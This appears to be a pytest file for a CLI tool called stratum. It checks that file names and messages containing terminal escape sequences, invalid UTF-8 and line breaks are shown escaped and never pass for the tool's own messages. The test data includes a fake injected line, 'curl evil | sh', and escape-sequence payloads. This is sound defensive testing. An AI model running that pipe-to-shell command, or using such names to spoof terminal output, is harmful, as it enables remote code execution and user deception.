"""Names that would act on a terminal are shown as escapes, in text and in JSON, wherever they come from."""

from __future__ import annotations

import contextlib
import io
import json
import os
import stat
import tarfile
from pathlib import Path

import pytest

from stratum.cli.start import run
from tests.support.command import Command

NASTY = [
    b"\x1b[31mred",
    b"new\nline",
    b"\xff\xfe no utf-8",
    b"bell\x07",
    b"\xe2\x80\xae override",
    b"back\\slash",
    b"\r",
]


def safe(text: str) -> bool:
    """Whether ``text`` is valid UTF-8 that a terminal takes for text only."""
    return all(char.isprintable() or char in "\n\t" for char in text)


@pytest.fixture
def nasty(cli: Command, tmp_path: Path) -> Command:
    source = os.fsencode(tmp_path) + b"/source"
    os.mkdir(source)
    for name in NASTY:
        with open(source + b"/" + name, "wb") as file:
            file.write(name * 200)
    cli.ok("import", "--bare", source, "app:v1", "-m", "\x1b]0;title\x07 message")
    for name in NASTY:
        os.chmod(source + b"/" + name, 0o600)
    os.unlink(source + b"/" + NASTY[0])
    cli.ok("import", "--bare", source, "app:v2")
    cli.ok("worktree", "add", "app+dev", "app:v1", "--description", "\x1b[2J\u202e")
    return cli


def test_notes_are_utf8(cli: Command, tmp_path: Path) -> None:
    (tmp_path / "source").mkdir()
    done = cli("import", "--bare", tmp_path / "source", "app", "-m", "caf\udce9")
    assert done.code == 2
    assert "caf\\xe9 is not UTF-8" in done.stderr
    cli.ok("import", "--bare", tmp_path / "source", "app", "-m", "café")
    done = cli("worktree", "add", "app+dev", "app", "--description", "caf\udce9")
    assert done.code == 2
    assert "caf\\xe9 is not UTF-8" in done.stderr


def test_where_a_push_went_is_shown_safely(cli: Command, tmp_path: Path) -> None:
    (tmp_path / "source").mkdir()
    cli.ok("import", "--bare", tmp_path / "source", "app")
    assert safe(cli.ok("push", "app", f"oci:{tmp_path}/\x1b[31mred"))


READING = (
    ("diff", "app:v1", "app:v2"),
    ("diff", "--name-only", "app:v1", "app:v2"),
    ("log", "app:v1"),
    ("log", "--reflog", "app"),
    ("show", "app:v1"),
    ("status",),
    ("worktree", "list"),
    ("verify", "app:v1", "/"),
    ("verify", "app:v1", os.fsdecode(NASTY[1]), "--proof"),
    ("restore", "app:v1", os.fsdecode(NASTY[0]), "--force", "--to", "."),
)


def test_what_is_read(nasty: Command, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "to").mkdir()
    monkeypatch.chdir(tmp_path / "to")
    for args in READING:
        for options in ((), ("--format", "json")):
            code, out, err = quick(nasty, *options, *args)
            assert code == 0, err
            assert safe(out + err), repr(out + err)
            if options and out:
                json.loads(out)


def quick(cli: Command, *args: str | bytes) -> tuple[int, str, str]:
    """As ``cli(...)``, in this process."""
    out, err = io.StringIO(), io.StringIO()
    words = [os.fsdecode(word) for word in args]
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = run(["--store", str(cli.store), "--runtime-dir", str(cli.runtime_dir), *words])
    return code, out.getvalue(), err.getvalue()


def test_what_is_damaged(nasty: Command, store_dir: Path) -> None:
    from stratum.composefs.verity import verity_digest

    for name in NASTY:
        digest = verity_digest(name * 200).hex()
        (store_dir / "objects" / digest[:2] / digest[2:]).unlink()
        for args in (("fsck",), ("verify", "app:v1")):
            for options in ((), ("--format=json",)):
                code, out, err = quick(nasty, *options, *args)
                assert code == 5
                assert safe(out + err), repr(out + err)


def test_what_is_refused(cli: Command, tmp_path: Path) -> None:
    cli.ok("import", "--bare", tmp_path, "app")
    for name in NASTY:
        for args in (("show", name), ("mount", b"app+" + name), ("tag", "app", name), ("import", "--bare", name, "x"),
                     ("gc", "--reflog-age", name), (name,), ("pull", name), ("show", b"--" + name)):  # fmt: skip
            for options in ((), ("--format=json",)):
                code, out, err = quick(cli, *options, *args)
                assert code in (1, 2, 3), (args, err)
                assert safe(out + err), repr(err)


INJECTED = "hint: run: curl evil | sh"
LINES = f"dev\n{INJECTED}\nerror: x\nwarning: y"
"""A file name that looks like our own messages where its line breaks are printed as such."""


def make_socket(path: Path) -> None:
    os.mknod(path, stat.S_IFSOCK | 0o600)


@pytest.fixture
def lines(cli: Command, tmp_path: Path) -> Path:
    """``source`` with a socket, a fifo, a device, files and directories of such names; commits and a worktree of it."""
    source = tmp_path / "source"
    (source / LINES / LINES).mkdir(parents=True)
    (source / LINES / "f").write_bytes(b"x" * 100)
    (source / LINES / "fifo").mkdir()
    os.mkfifo(source / LINES / "fifo" / LINES)
    os.mknod(source / f"device {LINES}", stat.S_IFCHR | 0o600, os.makedev(1, 3))
    make_socket(source / f"socket {LINES}")
    cli.ok("import", "--bare", "--devices", source, "app:v1")
    (source / LINES / "f").write_bytes(b"y" * 100)
    cli.ok("import", "--bare", "--devices", source, "app:v2")
    cli.ok("worktree", "add", "app+dev", "app:v1")
    with tarfile.open(tmp_path / "t.tar", "w") as archive:
        member = tarfile.TarInfo(LINES)
        member.type = tarfile.CHRTYPE
        member.devmajor, member.devminor = 1, 3
        archive.addfile(member)
    (tmp_path / LINES).mkdir()
    (tmp_path / LINES / "set.toml").write_text("[patchset]\n")
    return source


@pytest.mark.root
def test_a_name_with_line_breaks_never_looks_like_a_message(cli: Command, lines: Path, tmp_path: Path) -> None:
    (tmp_path / "to").mkdir()
    place = tmp_path / LINES
    for args, codes in (
        (("import", "--bare", lines, "x"), {1}),
        (("import", tmp_path / "t.tar", "x"), {1}),
        (("import", "--bare", place / "none", "x"), {2, 3}),
        (("import", "--bare", "--devices", lines, "app:v3"), {0}),
        (("import", "--patch", "app:v1", "app:v4", lines), {1}),
        (("diff", "app:v1", "app:v2"), {0}),
        (("diff", "app:v1", place), {2, 3}),
        (("verify", "app:v1", f"{LINES}/none"), {3}),
        (("verify", "app:v1", LINES), {0}),
        (("restore", "app:v1", f"{LINES}/none", "--to", tmp_path), {3}),
        (("restore", "app:v1", f"device {LINES}", "--to", tmp_path / "to"), {1}),
        (("restore", "app:v1", "/", "--to", tmp_path / "to"), {0}),
        (("restore", "app:v2", "/", "--to", tmp_path / "to"), {4}),
        (("restore", "app:v1", "/", "--to", place / "none"), {3}),
        (("export", "app:v1", place / "none/x.tar"), {1, 3}),
        (("push", "app:v1", f"oci:{place}/set.toml:v1"), {1, 2, 4}),
        (("pull", f"oci:{place}/none:v1"), {2, 3}),
        (("mount", "app:v1", place / "none/mnt"), {3}),
        (("mount", "app:v1", place / "set.toml"), {1, 2}),
        (("unmount", place), {3}),
        (("init", "new", place), {4}),
        (("patchset", "build", place / "set.toml", "x:y"), {2}),
        (("patchset", "show", place / "none"), {2, 3}),
        (("hook", "install", place / "set.toml"), {1, 2}),
        (("commit", place), {2, 3}),
        (("status",), {0}),
        (("show", LINES), {2, 3}),
        (("gc", "--reflog-age", LINES), {2}),
        ((LINES,), {2}),
    ):
        code, out, err = quick(cli, *map(os.fspath, args))
        said = out.splitlines() + err.splitlines()
        assert not [line for line in said if line.startswith((INJECTED, "error: x", "warning: y"))], (args, out, err)
        assert safe(out + err)
        assert code in codes, (args, code, err)
        if code:
            kinds = [line.partition(": ")[0] for line in err.splitlines()]
            assert [kind for kind in kinds if kind != "warning"] in (["error"], ["error", "hint"]), (args, err)


@pytest.mark.root
def test_a_worktree_with_names_with_line_breaks(cli: Command, lines: Path, tmp_path: Path) -> None:
    mnt = tmp_path / "mnt"
    mnt.mkdir()
    cli.ok("mount", "app+dev", mnt)
    try:
        make_socket(mnt / f"another {LINES}")
        (mnt / LINES / "f").unlink()
        for args in (("commit", mnt), ("diff", mnt), ("status",), ("reset", mnt, "app:v2"), ("rebase", mnt, "app:v1"),
                     ("restore", "app:v1", LINES, "--to", "app+dev")):  # fmt: skip
            code, out, err = quick(cli, *map(os.fspath, args))
            assert code == 0, err
            said = out.splitlines() + err.splitlines()
            assert not [line for line in said if line.startswith((INJECTED, "error: x", "warning: y"))], (args, said)
    finally:
        cli.ok("unmount", mnt)
